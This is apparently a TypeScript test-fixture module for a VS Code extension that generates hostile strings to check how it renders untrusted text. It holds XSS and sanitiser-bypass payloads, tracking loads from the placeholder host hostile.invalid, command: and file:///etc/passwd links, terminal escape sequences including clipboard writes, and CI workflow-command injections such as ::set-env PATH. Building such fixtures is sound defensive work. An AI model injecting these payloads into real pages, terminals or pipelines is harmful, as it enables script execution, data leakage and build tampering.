/**
 * What a model, a file name or a server could say to be more than text: families that are made by combining, and what
 * others found by hand. Each is plain data; what it would do is call `owned()`, ask for something from
 * `hostile.invalid`, leave the page, hide itself, or give orders to a terminal or a workflow's runner.
 */

export type HostileKind = "markup" | "markdown" | "hidden" | "terminal" | "workflow" | "template";

export interface HostileText {
  readonly kind: HostileKind;
  readonly text: string;
}

const HOST = "http://hostile.invalid";

/** What may stand before markup to get out of where it was put. */
const BREAKOUTS = [
  "",
  `">`,
  `'>`,
  `-->`,
  `]]>`,
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</code></pre>",
  "</template>",
  "```\n",
  "` ",
] as const;

const ELEMENTS = [
  `<img src=x onerror=owned()>`,
  `<svg onload=owned()></svg>`,
  `<script>owned()</script>`,
  `<iframe srcdoc="<script>parent.owned()</script>"></iframe>`,
  `<img src="${HOST}/breakout.png">`,
  `<details open ontoggle=owned()>x</details>`,
] as const;

const HANDLERS = [
  "<img src=x onerror=HERE>",
  "<img src=x oNeRrOr=HERE>",
  "<img/src=x/onerror=HERE>",
  "<img src=x\nonerror\n=\nHERE>",
  "<img src=x onerror='HERE'>",
  "<IMG SRC=x ONERROR=HERE>",
  "<svg onload=HERE>",
  "<svg/onload=HERE>",
  "<svg><image href=x onerror=HERE></svg>",
  "<video><source onerror=HERE></video>",
  "<audio src=x onerror=HERE></audio>",
  "<video src=x onerror=HERE></video>",
  "<details open ontoggle=HERE>",
  "<input autofocus onfocus=HERE>",
  "<select autofocus onfocus=HERE>",
  "<textarea autofocus onfocus=HERE>",
  "<div tabindex=1 autofocus onfocus=HERE>x</div>",
  "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=HERE>x</p>",
  "<object data=x onerror=HERE></object>",
  "<link rel=stylesheet href=x onerror=HERE>",
  "<script src=x onerror=HERE></script>",
  "<math><mtext><img src=x onerror=HERE></mtext></math>",
] as const;

/** Ways to write the same call. */
const CALLS = [
  "owned()",
  "top.owned()",
  "self['own'+'ed']()",
  "&#111;wned()",
  "setTimeout`owned()`",
  "owned``",
] as const;

const ASKING = [
  `<img src="${HOST}/1.png">`,
  `<img srcset="${HOST}/2.png 1x">`,
  `<picture><source srcset="${HOST}/3.png"><img></picture>`,
  `<video poster="${HOST}/4.png"></video>`,
  `<video src="${HOST}/5.mp4" preload=auto></video>`,
  `<audio src="${HOST}/6.mp3" preload=auto></audio>`,
  `<iframe src="${HOST}/7"></iframe>`,
  `<embed src="${HOST}/8">`,
  `<object data="${HOST}/9"></object>`,
  `<link rel=stylesheet href="${HOST}/10.css">`,
  `<link rel=preload as=image href="${HOST}/11.png">`,
  `<style>@import "${HOST}/12.css";</style>`,
  `<style>body{background:url(${HOST}/13.png)}</style>`,
  `<p style="background:url(${HOST}/14.png)">x</p>`,
  `<svg><image href="${HOST}/15.png"></image></svg>`,
  `<svg><use href="${HOST}/16.svg#a"></use></svg>`,
  `<input type=image src="${HOST}/17.png">`,
  `<body background="${HOST}/18.png">`,
  `<table background="${HOST}/19.png"><tr><td>x</table>`,
  `<track src="${HOST}/20.vtt">`,
  `<script src="${HOST}/21.js"></script>`,
  `<meta http-equiv=refresh content="0;url=${HOST}/22">`,
  `<base href="${HOST}/">`,
  `<form action="${HOST}/23" id=f></form><button form=f autofocus>x</button>`,
  `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${HOST}/24'>"></iframe>`,
  `<a href="${HOST}/25" ping="${HOST}/26">x</a>`,
] as const;

/** Markup that means something else once a sanitiser has read and written it, and other finds. */
const FOUND = [
  `<noscript><p title="</noscript><img src=x onerror=owned()>">`,
  `<svg><style><img src=x onerror=owned()></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=owned()&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned()>`,
  `<svg></p><style><a id="</style><img src=x onerror=owned()>">`,
  `<!--><img src=x onerror=owned()>-->`,
  `<![CDATA[><img src=x onerror=owned()>]]>`,
  `<?xml-stylesheet ><img src=x onerror=owned()> ?>`,
  `<xmp><p title="</xmp><img src=x onerror=owned()>">`,
  `<select><template><style></select><img src=x onerror=owned()>`,
  `&lt;img src=x onerror=owned()&gt;`,
  `&#60;img src=x onerror=owned()&#62;`,
  `\\u003cimg src=x onerror=owned()\\u003e`,
  `%3Cimg src=x onerror=owned()%3E`,
  `<<script>owned()//<</script>`,
  `<scr<script>ipt>owned()</scr</script>ipt>`,
  `<img src=x onerror=owned()//`,
  `<a href="javascript:owned()">x</a>`,
  `<a href="java\tscript:owned()">x</a>`,
  `<iframe src="javascript:parent.owned()"></iframe>`,
  `<div id=documentElement></div><form name=body></form>`,
  `<meta name=onceover-translations content="{}">`,
] as const;

const TARGETS = [
  "javascript:owned()",
  "JaVaScRiPt:owned()",
  "command:onceover.clearCache",
  "command:workbench.action.terminal.sendSequence?%5B%22x%22%5D",
  "vscode://hostile.extension/x",
  "data:text/html,<script>owned()</script>",
  "file:///etc/passwd",
  `${HOST}/md`,
  "//hostile.invalid/md",
] as const;

const LINKS = [
  "[click](HERE)",
  "![picture](HERE)",
  "[click](<HERE>)",
  "[click][r]\n\n[r]: HERE",
  "<HERE>",
  '[![x](HERE)](HERE "title")',
] as const;

const MARKDOWN = [
  "$(alert~spin) $(trash)",
  `www.hostile.invalid/auto ${HOST}/auto me@hostile.invalid`,
  "# heading\n\n---\n\n> quote\n\n- list\n1. one",
  "| a | b |\n|---|---|\n| x | y |",
  "```js\nowned()\n```",
  "~~~\n</code>\n~~~",
  "````\n```\n````",
  "@everyone #1 owner/name#2 :tada:",
  "**bold** _it_ ~~gone~~ `code` $x^2$",
  "Ends in a backslash \\",
  "[x]: #\n\n[x]",
  "setext\n======",
  "- [ ] task\n- [x] done",
  "&nbsp;&#x202e;&#8238;",
] as const;

/** By code point: they turn reading round, are not seen, or hide what follows. */
const UNSEEN = [
  0x00, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x7f, 0x85, 0x9b, 0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d,
  0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2064, 0x2066, 0x2067,
  0x2068, 0x2069, 0x206a, 0x3164, 0xfe00, 0xfeff, 0xffa0, 0xfff9, 0xd800, 0xdfff, 0x1d173, 0xe0001, 0xe0041, 0xe0100,
] as const;

const ESCAPES = [
  "\u001b[2J\u001b[H",
  "\u001b[31mred\u001b[0m",
  "\u001b[8mhidden",
  "\u001b[1A\u001b[2Kover the line above",
  "\u001b[?1049h",
  "\u001b[6n",
  "\u001b[21t",
  "\u001b[201~",
  "\u001bc",
  "\u001b]0;title\u0007",
  "\u001b]2;title\u001b\\",
  `\u001b]8;;${HOST}\u0007click\u001b]8;;\u0007`,
  "\u001b]52;c;b3duZWQ=\u0007",
  "\u001b]1337;File=inline=1:AAAA\u0007",
  "\u001b]633;C\u0007",
  '\u001bP$q"p\u001b\\',
  "\u001b_Gf=24;AAAA\u001b\\",
  "\u001b^private\u001b\\",
  "\u009b31mC1",
  "\u009d0;title\u009c",
  "\u0090dcs\u009c",
  "safe\rOVER",
  "back\b\b\b\bOVER",
  "bell\u0007",
  "\u000e\u000fshift",
  "\u0005enq",
] as const;

const WORKFLOW = [
  "::error::owned",
  "::error file=a.ts,line=1::owned",
  "::add-mask::a",
  "::stop-commands::token",
  "::set-output name=x::y",
  "::set-env name=PATH::/tmp",
  "::save-state name=x::y",
  "::add-path::/tmp",
  "::group::x",
  "::debug::x",
  "##[error]owned",
  "##[set-env name=PATH]/tmp",
  "##vso[task.setvariable variable=x]y",
  "  ::warning::owned",
  "x\n::error::owned",
  "x\r\n::error::owned",
  "x%0A::error::owned",
  "%25%0D%0A::error::owned",
] as const;

const TEMPLATE = [
  "{0} {1} {99}",
  "$& $1 $` $' $$",
  "__proto__",
  "constructor",
  "toString",
  "${owned()}",
  "{{constructor.constructor('owned()')()}}",
  "<%= owned() %>",
  '{"type":"view","view":null}',
  "%s %d %o %c",
  "-".repeat(40) + "x".repeat(4_000),
  "ﷺ".repeat(60),
  `Z${"\u0300".repeat(80)}`,
] as const;

/** More than three hundred, none twice, always in the same order. */
export const hostileTexts: readonly HostileText[] = [
  ...of("markup", [
    ...crossed(BREAKOUTS, ELEMENTS, (before, element) => before + element),
    ...crossed(HANDLERS, CALLS, (handler, call) => handler.replace("HERE", () => call)),
    ...ASKING,
    ...FOUND,
  ]),
  ...of(
    "markdown",
    crossed(LINKS, TARGETS, (link, target) => link.replaceAll("HERE", () => target)),
  ),
  ...of("markdown", MARKDOWN),
  ...of(
    "hidden",
    UNSEEN.map((code) => `pay${String.fromCodePoint(code)}load.ts`),
  ),
  ...of("terminal", ESCAPES),
  ...of("workflow", WORKFLOW),
  ...of("template", TEMPLATE),
];

function of(kind: HostileKind, texts: readonly string[]): HostileText[] {
  return [...new Set(texts)].map((text) => ({ kind, text }));
}

function crossed(left: readonly string[], right: readonly string[], join: (a: string, b: string) => string): string[] {
  return left.flatMap((one) => right.map((other) => join(one, other)));
}
